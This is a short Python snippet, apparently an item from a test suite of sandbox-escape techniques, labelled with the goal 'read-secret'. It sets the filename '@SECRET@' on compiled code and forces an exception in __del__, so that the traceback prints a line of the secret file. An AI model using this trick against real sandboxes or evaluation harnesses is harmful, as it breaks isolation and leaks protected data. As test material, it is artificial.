# technique: the traceback of an ignored exception shows a line of the file that the code claims to come from
# goal: read-secret
# source: source lines in tracebacks
g = {}
exec(compile('''


class Last:
    def __del__(self): pass
''', '@SECRET@', 'exec'), g)
exec(compile('def bomb(self): 1 / 0', '@SECRET@', 'exec'), g)
g['Last'].__del__ = g['bomb']
last = g['Last']()
del g, last
